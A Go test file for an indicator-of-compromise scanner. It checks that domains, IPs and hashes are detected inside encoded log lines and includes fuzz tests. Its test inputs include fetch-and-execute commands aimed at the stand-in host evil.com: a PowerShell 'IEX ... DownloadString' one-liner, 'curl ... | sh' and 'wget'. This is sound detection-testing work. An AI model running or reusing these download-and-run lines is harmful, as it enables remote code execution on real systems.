package ioc

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"
)

func wide(s string, big bool) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		if big {
			b = append(b, byte(u>>8), byte(u))
		} else {
			b = append(b, byte(u), byte(u>>8))
		}
	}
	return string(b)
}

func percentAll(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02x", c)
	}
	return b.String()
}

func jsonUnicode(s string) string {
	var b strings.Builder
	for _, c := range s {
		fmt.Fprintf(&b, `\u%04x`, c)
	}
	return b.String()
}

func dnsLog(name string) string {
	var b strings.Builder
	for label := range strings.SplitSeq(name, ".") {
		fmt.Fprintf(&b, "(%d)%s", len(label), label)
	}
	return b.String() + "(0)"
}

// The encodings that a text is found in, by the name that a hit gives them.
var testEncodings = map[string]func(string) string{
	"percent": func(s string) string { return "GET /?u=" + url.QueryEscape("x//"+s+"/") + " HTTP/1.1" },
	"json":    func(s string) string { return `{"u":"` + jsonUnicode(s) + `"}` },
	"base64": func(s string) string {
		return "-enc " + base64.StdEncoding.EncodeToString([]byte("IEX (curl "+s+" | sh)"))
	},
	"hex": func(s string) string {
		return "proctitle=" + strings.ToUpper(hex.EncodeToString([]byte("curl\x00-s\x00"+s)))
	},
	"utf-16le":        func(s string) string { return "\x01\x02" + wide(s, false) + "\x07" },
	"utf-16be":        func(s string) string { return "\x01\x02" + wide(s, true) + "\x07" },
	"json+percent":    func(s string) string { return `"` + jsonUnicode(percentAll(s)) + `"` },
	"percent+percent": func(s string) string { return percentAll(percentAll(s)) },
	"base64+percent":  func(s string) string { return base64.StdEncoding.EncodeToString([]byte(percentAll(s))) },
}

func TestEncodings(t *testing.T) {
	for _, value := range []string{"evil.com", "198.51.100.7", "http://evil.com/a/b.php", "d41d8cd98f00b204e9800998ecf8427e", "evil.exe", "string:needle in hay", "198.51.100.0/24", "2001:db8::1"} {
		set := mustSet(t, value)
		text := strings.TrimPrefix(value, "string:")
		text = strings.ReplaceAll(text, "0/24", "9")
		for name, encode := range testEncodings {
			line := encode(text)
			got, err := grep(set, []byte("one\ntwo "+line+" rest\n"), 1000)
			want := fmt.Sprint([]string{name + ":2:" + set.Indicators()[0].Value})
			if name == "percent" && strings.HasPrefix(value, "string:") {
				continue // a space is a plus sign there
			}
			if fmt.Sprint(got) != want || err != nil {
				t.Errorf("%s in %q: %q %v, want %s", value, line, got, err, want)
			}
		}
	}
}

func TestEncodedOddities(t *testing.T) {
	ps := base64.StdEncoding.EncodeToString([]byte(wide("IEX (New-Object Net.WebClient).DownloadString('http://evil.com/a')", false)))
	inner, _ := json.Marshal(`{"host":"evil.com"}`)
	tests := map[string]string{
		"base64":       "powershell -enc " + ps,
		"percent":      "/redirect?to=http%3A%2F%2Fevil.com%2Fx",
		"json":         `{"line":"first\nevil.com\tx"}`,
		"":             `{"m":` + string(inner) + `}`,
		"dns":          "UDP Rcv 10.0.0.1 Q [0001 D NOERROR] A " + dnsLog("www.evil.com"),
		"base64 (JWT)": "eyJhbGciOiJIUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(`{"iss":"https://evil.com/","x":1}`)) + ".sig",
		"base64 /":     "/var/tmp/x/" + base64.StdEncoding.EncodeToString([]byte("some text with evil.com in it")),
		"hex":          "a2=" + hex.EncodeToString([]byte("sh -c 'curl evil.com'")),
	}
	set := mustSet(t, "evil.com")
	for name, line := range tests {
		name, _, _ = strings.Cut(name, " ")
		if got, _ := grep(set, []byte(line), 50); fmt.Sprint(got) != "["+name+":1:evil.com]" {
			t.Errorf("%s: %q in %q", name, got, line)
		}
	}
	for _, line := range []string{dnsLog("notevil.com"), dnsLog("evil.com.au"), percentAll("notevil.com"), hex.EncodeToString([]byte("curl -s notevil.com"))} {
		if got, _ := grep(set, []byte(line), 50); len(got) > 0 {
			t.Errorf("%q in %q", got, line)
		}
	}
}

// FuzzEncodings checks that an indicator is found under any encodings inside each other, wherever the blocks end.
func FuzzEncodings(f *testing.F) {
	f.Add(uint64(1), "before", "after")
	f.Add(uint64(7), "a=", "\x00%zz\\u")
	f.Fuzz(func(t *testing.T, seed uint64, before, after string) {
		r := rand.New(rand.NewPCG(seed, 5))
		set := mustSet(t, "198.51.100.7\nwww.evil.com")
		text := []string{"198.51.100.7", "www.evil.com"}[r.IntN(2)]
		encode := []func(string) string{percentAll, jsonUnicode, func(s string) string { return base64.StdEncoding.EncodeToString([]byte("wget -q " + s + " -O x")) }, func(s string) string { return hex.EncodeToString([]byte("wget -q " + s)) }}
		var names []int
		for range 1 + r.IntN(2) {
			n := r.IntN(len(encode))
			names = append(names, n)
			text = encode[n](text)
		}
		text = strings.ReplaceAll(before, "\n", "") + "\n" + text + "\n" + after
		if hits := scanSplit(t, set, text, r); len(hits) == 0 && len(text) < 600 {
			t.Errorf("nothing in %q (%v)", text, names)
		}
	})
}

// The views of a block must not grow without bound, nor the time that they take.
func TestHostileEncodings(t *testing.T) {
	set := mustSet(t, "evil.com\nstring:needle")
	for name, part := range map[string]string{
		"base64":  "aaaaaaaaaaaaaaaaX+",
		"percent": "%25",
		"json":    `\\`,
		"wide":    "a\x00",
		"hex":     "6161616161616161",
		"dns":     "(1)a(0)",
		"dots":    "a.",
		"colons":  "1:",
		"nul":     "\x00",
	} {
		text := strings.Repeat(part, 3<<20/len(part)) + "\nevil.com\n"
		if got, err := grep(set, []byte(text), 1<<20); len(got) != 1 || err != nil {
			t.Errorf("%s: %q %v", name, got, err)
		}
	}
}

// The digits of hexadecimal numbers are told and read eight at a time as one at a time.
func FuzzHex(f *testing.F) {
	f.Add("0123456789abcdefABCDEF")
	f.Add("0123456789abcdefg")
	f.Add("63726F6E20G")
	f.Fuzz(func(t *testing.T, s string) {
		run := []byte(s)
		for _, c := range run {
			if !isAlnum(c) {
				return
			}
		}
		if len(run) < 8 {
			return
		}
		if got, want := onlyHex(run), allHex(run); got != want {
			t.Fatalf("%q: only hexadecimal digits: %v, want %v", s, got, want)
		}
		if !allHex(run) {
			return
		}
		want, err := hex.DecodeString(s[:len(s)&^1])
		if err != nil {
			t.Fatal(err)
		}
		if got := appendHex(nil, run); !bytes.Equal(got, want) {
			t.Errorf("%q is read as %x", s, got)
		}
	})
}

// FuzzHexMayStart checks that nothing is passed over that a slower look takes for the start of a text.
func FuzzHexMayStart(f *testing.F) {
	for _, s := range []string{"/bin/sh -c", "a\x00b\x00c\x00d\x00", "é\tß 中 a", "\x00\x01abcdef", "a\x7fbcdefg", "ls\x00-l\x00/", "a\u4e2d\u6587b"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, p []byte) {
		p = append(p, "12345678"...)
		digits := []byte(hex.EncodeToString(p))
		if got := hex8(digits); got != binary.LittleEndian.Uint32(p) {
			t.Fatalf("%s is %x", digits, got)
		}
		quick, slow := &view{limit: 1}, &view{limit: 1}
		quick.addArguments(0, 1, bytes.Clone(p))
		if !isWide(p) {
			p = []byte(strings.NewReplacer("\x00", " ", "\n", " ", "\r", " ").Replace(string(p)))
		}
		slow.addStrings(hexEncoding, 0, 1, bytes.Clone(p))
		if !bytes.Equal(quick.text, slow.text) {
			t.Fatalf("%q: %q at one look, %q in truth", p, quick.text, slow.text)
		}
		if hexMayStart(digits) {
			return
		}
		v := &view{buf: digits, limit: len(digits)}
		if v.hex(0, len(digits)); len(v.segments) > 0 {
			t.Errorf("%q in %q is passed over", v.text, p)
		}
	})
}
